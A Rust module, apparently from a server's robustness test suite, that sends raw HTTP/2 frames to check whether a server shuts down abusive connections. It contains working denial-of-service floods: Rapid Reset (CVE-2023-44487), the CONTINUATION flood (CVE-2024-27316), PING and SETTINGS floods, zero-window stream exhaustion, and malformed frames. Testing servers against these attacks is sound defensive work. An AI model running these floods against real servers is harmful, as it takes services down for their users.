//! HTTP/2 as bytes: frames that cost their sender little and a careless server much.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::timeout;

use crate::target::{Outcome, PATIENCE, all, connect, until_closed};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET /play` on `http://a`, in literals (RFC 7541, 6.2.2 and appendix A).
const GET: &[u8] = b"\x82\x86\x04\x05/play\x01\x01a";

/// A frame (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// A connection whose preface and settings have been sent.
async fn open(address: SocketAddr, settings: &[u8]) -> Result<TcpStream, String> {
    let mut stream = connect(address).await?;
    let first = [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat();
    let sent = stream.write_all(&first).await;
    sent.map_err(|error| error.to_string())?;
    Ok(stream)
}

/// Sends frames without end until the server ends the connection, and reads meanwhile if `reads` says so.
async fn flood(
    stream: TcpStream,
    frames: impl FnMut(u32) -> Vec<u8>,
    reads: bool,
) -> Result<(), String> {
    let mut frames = frames;
    let (mut from, mut to) = stream.into_split();
    let reading = async {
        let mut part = vec![0; 64 << 10];
        while reads && from.read(&mut part).await.is_ok_and(|it| it > 0) {}
        if !reads {
            std::future::pending::<()>().await;
        }
    };
    let sending = async {
        for number in 0_u32.. {
            if to.write_all(&frames(number)).await.is_err() {
                return;
            }
        }
    };
    let ended = async {
        tokio::select! {
            () = reading => {}
            () = sending => {}
        }
    };
    match timeout(PATIENCE, ended).await {
        Ok(()) => Ok(()),
        Err(_) => Err("the server takes frames without end".to_owned()),
    }
}

/// Requests that are taken back at once (CVE-2023-44487).
pub(super) async fn resets(address: SocketAddr) -> Outcome {
    all(20, move |_| async move {
        let stream = open(address, b"").await?;
        let frames = |number: u32| {
            let id = 2 * (number % (1 << 29)) + 1;
            let head = frame(HEADERS, END_STREAM | END_HEADERS, id, GET);
            [head, frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
        };
        flood(stream, frames, true).await
    })
    .await
}

/// A head that goes on in frames without end (CVE-2024-27316).
pub(super) async fn continuations(address: SocketAddr) -> Outcome {
    all(20, move |_| async move {
        let stream = open(address, b"").await?;
        let part = b"\x00\x03x-a\x03bcd".repeat(1_000);
        let frames = |number: u32| match number {
            0 => frame(HEADERS, 0, 1, GET),
            _ => frame(CONTINUATION, 0, 1, &part),
        };
        flood(stream, frames, true).await
    })
    .await
}

/// Frames that each want an answer, which nobody reads.
pub(super) async fn control_frames(address: SocketAddr) -> Outcome {
    all(20, move |number| async move {
        let stream = open(address, b"").await?;
        let frames = |_: u32| match number % 2 {
            0 => frame(PING, 0, 0, &[7; 8]).repeat(1_000),
            _ => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9]).repeat(1_000),
        };
        flood(stream, frames, false).await
    })
    .await
}

/// As many streams as the server allows, none of which may send anything.
pub(super) async fn windows(address: SocketAddr) -> Outcome {
    all(100, move |_| async move {
        let no_window = [0, 4, 0, 0, 0, 0];
        let mut stream = open(address, &no_window).await?;
        for number in 0..100 {
            let head = frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, GET);
            let _ = stream.write_all(&head).await;
        }
        // The connection itself is alive.
        let (mut from, mut to) = stream.into_split();
        let alive = tokio::spawn(async move {
            while to.write_all(&frame(PING, 0, 0, &[7; 8])).await.is_ok() {
                tokio::time::sleep(Duration::from_millis(500)).await;
            }
        });
        let mut received = Vec::new();
        let ended = timeout(PATIENCE, from.read_to_end(&mut received)).await;
        alive.abort();
        match ended {
            Ok(_) => Ok(()),
            Err(_) => Err("the connection was not ended".to_owned()),
        }
    })
    .await
}

/// Frames with wrong lengths, streams, flags and types.
pub(super) async fn garbage(address: SocketAddr) -> Outcome {
    all(300, move |number| async move {
        let mut stream = open(address, b"").await?;
        let mut random = farrier_test_support::random::Random::new(number as u64);
        let bytes = match number % 6 {
            0 => frame(DATA, END_STREAM, 1, b"{}"),
            1 => frame(HEADERS, END_HEADERS, 2, GET),
            2 => frame(HEADERS, END_HEADERS | END_STREAM, 1, &[0xff; 40]),
            3 => frame(SETTINGS, 0, 0, &[0; 5]),
            4 => vec![0xff; 9],
            _ => (0..200).map(|_| random.below(256) as u8).collect(),
        };
        let _ = stream.write_all(&bytes).await;
        until_closed(&mut stream).await.map(drop)
    })
    .await
}
